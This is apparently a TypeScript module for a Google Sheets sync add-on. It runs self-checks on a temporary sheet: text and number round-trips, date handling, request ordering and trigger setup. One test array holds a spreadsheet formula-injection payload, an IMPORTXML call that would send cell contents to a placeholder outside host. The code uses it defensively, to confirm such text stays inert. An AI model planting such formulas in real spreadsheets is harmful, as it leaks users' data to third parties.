// "Check this spreadsheet": runs, in the person's real spreadsheet and on a temporary sheet it removes
// afterwards, the platform assumptions the simulator cannot prove, and says what each result means.

import { sheetPrecision } from '../core/codec';
import { activeSheetId, activeSpreadsheet } from './active';
import { isSender, LIVE_HANDLER } from './live-switch';
import { allLinks, loadConnection, loadLink } from './stores';

export interface SelfCheckResult {
  name: string;
  passed: boolean;
  /** What was seen (JSON-safe text; never the API key). */
  detail: string;
  /** What the result means for the sync. */
  meaning: string;
}

export interface SelfCheckReport {
  checks: SelfCheckResult[];
}

const LITERALS = ['00123', '2024-01-05', 'TRUE', '50%', '1e5', '+1'];
const FORMULA_TEXTS = ['=1+1', '=IMPORTXML("http://example.invalid/?"&A1,"//a")', '+cmd', '-1+1', '@SUM(A1)'];
const APOSTROPHES = ["'=1+1", "'00123"];
const HANDLER = 'runScheduledSync';

function show(value: unknown): string {
  if (Object.prototype.toString.call(value) === '[object Date]')
    return `Date(${(value as Date).toISOString()})`;
  return JSON.stringify(value) ?? String(value);
}

/** Runs one check; an exception becomes a failed check with its message. */
function attempt(
  name: string,
  meaning: string,
  work: () => { passed: boolean; detail: string },
): SelfCheckResult {
  try {
    return { name, meaning, ...work() };
  } catch (error) {
    const message = error instanceof Error ? error.message : String(error);
    return { name, meaning, passed: false, detail: `The check itself failed: ${message}` };
  }
}

/** Writes a column of strings into plain-text (@) cells and reads values and formulas back. */
function roundTrip(
  sheet: GoogleAppsScript.Spreadsheet.Sheet,
  column: number,
  inputs: string[],
): { values: unknown[]; formulas: string[] } {
  const range = sheet.getRange(1, column, inputs.length, 1);
  range.setNumberFormat('@');
  range.setValues(inputs.map((text) => [text]));
  SpreadsheetApp.flush();
  return {
    values: range.getValues().map((row) => row[0]),
    formulas: range.getFormulas().map((row) => row[0] as string),
  };
}

function literalCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet, locale: string): SelfCheckResult {
  return attempt(
    'Literal text in plain-text cells',
    'Text such as 00123, dates, TRUE and 50% from the service stays exactly the text it was, under this spreadsheet’s locale. If this fails, pulled text may be changed into numbers, dates or booleans here.',
    () => {
      const { values } = roundTrip(sheet, 1, LITERALS);
      const wrong = LITERALS.filter((text, i) => values[i] !== text).map(
        (text, i) => `${text} → ${show(values[i])}`,
      );
      return {
        passed: wrong.length === 0,
        detail:
          wrong.length === 0
            ? `All ${LITERALS.length} values read back identical (locale ${locale}).`
            : `Changed (locale ${locale}): ${wrong.join('; ')}`,
      };
    },
  );
}

function formulaTextCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Text starting with = + - @ stays text',
    'A row’s text can never run as a formula (for example IMPORTXML sending your data elsewhere). If this fails, do not sync tables whose text comes from people you do not trust.',
    () => {
      const { values, formulas } = roundTrip(sheet, 2, FORMULA_TEXTS);
      const live = FORMULA_TEXTS.filter((_, i) => formulas[i] !== '');
      const changed = FORMULA_TEXTS.filter((text, i) => values[i] !== text);
      return {
        passed: live.length === 0 && changed.length === 0,
        detail:
          live.length === 0 && changed.length === 0
            ? `All ${FORMULA_TEXTS.length} values stayed text; no formulas.`
            : `Became formulas: ${show(live)}; read back changed: ${show(changed)}`,
      };
    },
  );
}

function apostropheCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Leading apostrophe in plain-text cells',
    'Reports whether Sheets keeps or strips a leading apostrophe in plain-text cells. Both are safe: the sync compares cells ignoring one leading apostrophe.',
    () => {
      const { values, formulas } = roundTrip(sheet, 3, APOSTROPHES);
      const kept = APOSTROPHES.every((text, i) => values[i] === text);
      const stripped = APOSTROPHES.every((text, i) => values[i] === text.slice(1));
      const noFormula = formulas.every((formula) => formula === '');
      return {
        passed: (kept || stripped) && noFormula,
        detail: kept
          ? 'Kept: the apostrophe is part of the value.'
          : stripped
            ? 'Stripped: the apostrophe is not part of the value.'
            : `Neither kept nor stripped: ${show(values)}; formulas ${show(formulas)}`,
      };
    },
  );
}

/** Numbers whose digits a sheet may not keep: a sum with float error, 2^53, 1e21, 17 digits. */
const PRECISE_NUMBERS = [0.1 + 0.2, 2 ** 53, 1e21, 12345678901234568];

function numberCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Numbers keep their digits (or the sync tolerates the rounding)',
    'Reports how many digits this spreadsheet keeps. The sync compares numbers at 15 significant digits, so a number the sheet rounds is never pushed back. If this fails, numbers change in ways the sync cannot tell from edits: report it before syncing number columns.',
    () => {
      const range = sheet.getRange(1, 4, PRECISE_NUMBERS.length, 1);
      range.setValues(PRECISE_NUMBERS.map((n) => [n]));
      SpreadsheetApp.flush();
      const read = range.getValues().map((row) => row[0]);
      const exact = PRECISE_NUMBERS.filter((n, i) => read[i] === n).length;
      const tolerated = PRECISE_NUMBERS.every(
        (n, i) => typeof read[i] === 'number' && sheetPrecision(read[i] as number) === sheetPrecision(n),
      );
      const pairs = PRECISE_NUMBERS.map((n, i) => `${n} → ${show(read[i])}`).join('; ');
      return {
        passed: tolerated,
        detail:
          exact === PRECISE_NUMBERS.length
            ? `Kept every digit: ${pairs}.`
            : tolerated
              ? `Kept ${exact} of ${PRECISE_NUMBERS.length} exactly, the rest at 15 significant digits: ${pairs}.`
              : `Changed beyond rounding: ${pairs}.`,
      };
    },
  );
}

function dateFormatCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Date-formatted cells read back as dates',
    'A number column where a person typed a date gets a date format and reads back as a date; the sync marks such a line "a date in a number column" and a pull restores the number format. This reports whether that reading happens here.',
    () => {
      const cell = sheet.getRange(1, 5);
      cell.setNumberFormat('yyyy-mm-dd');
      cell.setValue(45296);
      SpreadsheetApp.flush();
      const value = cell.getValue();
      const isDate = Object.prototype.toString.call(value) === '[object Date]';
      return {
        passed: isDate || value === 45296,
        detail: isDate
          ? `A number under a date format read back as ${show(value)}: dates in number columns are marked.`
          : value === 45296
            ? 'A number under a date format read back as the number 45296.'
            : `Read back as ${show(value)}.`,
      };
    },
  );
}

function fetchAllCheck(): SelfCheckResult {
  return attempt(
    'UrlFetchApp.fetchAll keeps the order of requests',
    'Answers of parallel requests are matched to their requests by position. If this fails, parallel pulls and pushes could put a row’s answer on the wrong line: report it before syncing.',
    () => {
      const connection = loadConnection();
      if (!connection) {
        return { passed: false, detail: 'Not connected: connect in the sidebar, then run this check again.' };
      }
      const base = connection.info.baseUrl + connection.info.prefix;
      const headers = { auth: connection.apiKey, accept: 'application/json' };
      const sheetId = activeSheetId();
      const link = loadLink(sheetId);
      const me = `${base}/user/me`;
      const page = link
        ? `${base}/tableApps/${encodeURIComponent(link.tableAppId)}/tables/${encodeURIComponent(link.tableId)}/rows?offset=0&limit=1`
        : null;
      const urls = page ? [me, page, me] : [me, me];
      const responses = UrlFetchApp.fetchAll(
        urls.map((url) => ({
          url,
          method: 'get' as const,
          headers,
          muteHttpExceptions: true,
          followRedirects: false,
        })),
      );
      const kinds = responses.map((response) => {
        if (response.getResponseCode() !== 200) return `status ${response.getResponseCode()}`;
        const json: unknown = JSON.parse(response.getContentText());
        if (Array.isArray(json)) return 'page';
        const record = json as Record<string, unknown>;
        if (typeof record.userId === 'string') return 'me';
        return Array.isArray(record.rows) ? 'page' : 'other';
      });
      const expected = urls.map((url) => (url === me ? 'me' : 'page'));
      const passed = kinds.join(',') === expected.join(',');
      return {
        passed,
        detail: `${page ? 'Profile, a page of rows, profile' : 'Profile twice (link this sheet to include a page of rows)'}: answers came back as ${kinds.join(', ')}.`,
      };
    },
  );
}

/** Deletes a trigger the check just created, and says whether it is really gone. */
function createdAndRemoved(
  trigger: GoogleAppsScript.Script.Trigger,
  what: string,
): { passed: boolean; detail: string } {
  const id = trigger.getUniqueId();
  ScriptApp.deleteTrigger(trigger);
  const left = ScriptApp.getProjectTriggers().some((each) => each.getUniqueId() === id);
  return {
    passed: !left,
    detail: left
      ? 'Created, but it is still installed after deleting it.'
      : `Created ${what} and deleted it.`,
  };
}

function triggerCheck(): SelfCheckResult {
  return attempt(
    'Hourly triggers can be created and removed',
    'Scheduled syncs use an hourly (or slower) time trigger. If this fails, schedules cannot run for you here; manual pull and push still work.',
    () => {
      // An add-on may hold one clock trigger per person per spreadsheet: an existing schedule proves
      // the point, and creating a second one would fail for that reason alone.
      const existing = ScriptApp.getProjectTriggers().filter(
        (each) => each.getHandlerFunction() === HANDLER && each.getEventType() === ScriptApp.EventType.CLOCK,
      );
      if (existing.length > 0) {
        return {
          passed: true,
          detail: `Passed with schedule: you already have ${existing.length === 1 ? 'a schedule trigger' : `${existing.length} schedule triggers`} here, so none was created for the check.`,
        };
      }
      return createdAndRemoved(
        ScriptApp.newTrigger(HANDLER).timeBased().everyHours(1).create(),
        'an everyHours(1) trigger',
      );
    },
  );
}

/** "1 linked sheet", "3 linked sheets". */
function counted(count: number, thing: string): string {
  return `${count} ${thing}${count === 1 ? '' : 's'}`;
}

/**
 * Live sync's edit trigger: the caller's one trigger matches the links they turned it on for (none
 * left behind, none missing); without live sync, one is created and deleted.
 */
function editTriggerCheck(): SelfCheckResult {
  return attempt(
    'The edit trigger of "Send edits as I type" can be created and removed',
    'Live sync pushes what you type through one edit trigger of yours. If this fails, turn live sync off and on again, or use Push and schedules.',
    () => {
      const own = ScriptApp.getUserTriggers(activeSpreadsheet()).filter(
        (each) => each.getHandlerFunction() === LIVE_HANDLER,
      );
      const userId = loadConnection()?.info.userId;
      const liveLinks = userId === undefined ? [] : allLinks().filter((link) => isSender(link, userId));
      if (liveLinks.length > 0) {
        return own.length === 1
          ? { passed: true, detail: `Your edit trigger serves ${counted(liveLinks.length, 'linked sheet')}.` }
          : {
              passed: false,
              detail: `Live sync is on for ${counted(liveLinks.length, 'linked sheet')} but you have ${counted(own.length, 'edit trigger')}: turn it off and on again.`,
            };
      }
      if (own.length > 0) {
        return {
          passed: false,
          detail: `You have ${counted(own.length, 'edit trigger')} serving no linked sheet: ${own.length === 1 ? 'it deletes itself' : 'they delete themselves'} at the next edit, or turn live sync on and off once.`,
        };
      }
      return createdAndRemoved(
        ScriptApp.newTrigger(LIVE_HANDLER).forSpreadsheet(activeSpreadsheet()).onEdit().create(),
        'an edit trigger',
      );
    },
  );
}

/**
 * Runs every check on a temporary sheet (deleted afterwards, the active sheet kept) and returns the
 * results. Never throws for a failed check; never includes the API key.
 */
export function runSelfCheck(): SelfCheckReport {
  const spreadsheet = activeSpreadsheet();
  const active = spreadsheet.getActiveSheet();
  const locale = spreadsheet.getSpreadsheetLocale();
  const sheet = spreadsheet.insertSheet(`tas_check_${Date.now()}`, spreadsheet.getSheets().length);
  if (active) spreadsheet.setActiveSheet(active);
  const checks: SelfCheckResult[] = [];
  try {
    checks.push(literalCheck(sheet, locale));
    checks.push(formulaTextCheck(sheet));
    checks.push(apostropheCheck(sheet));
    checks.push(numberCheck(sheet));
    checks.push(dateFormatCheck(sheet));
  } finally {
    spreadsheet.deleteSheet(sheet);
    if (active) spreadsheet.setActiveSheet(active);
  }
  checks.push(fetchAllCheck());
  checks.push(triggerCheck());
  checks.push(editTriggerCheck());
  return { checks };
}

/** Menu item "Check this spreadsheet": runs the checks and shows the results. */
export function menuSelfCheck(): void {
  const { checks } = runSelfCheck();
  const failed = checks.filter((check) => !check.passed).length;
  const lines = checks.map(
    (check) => `${check.passed ? '✓' : '✖'} ${check.name}: ${check.detail}\n   ${check.meaning}`,
  );
  const ui = SpreadsheetApp.getUi();
  ui.alert(
    failed === 0 ? 'All checks passed' : `${failed} of ${checks.length} checks failed`,
    lines.join('\n\n'),
    ui.ButtonSet.OK,
  );
}
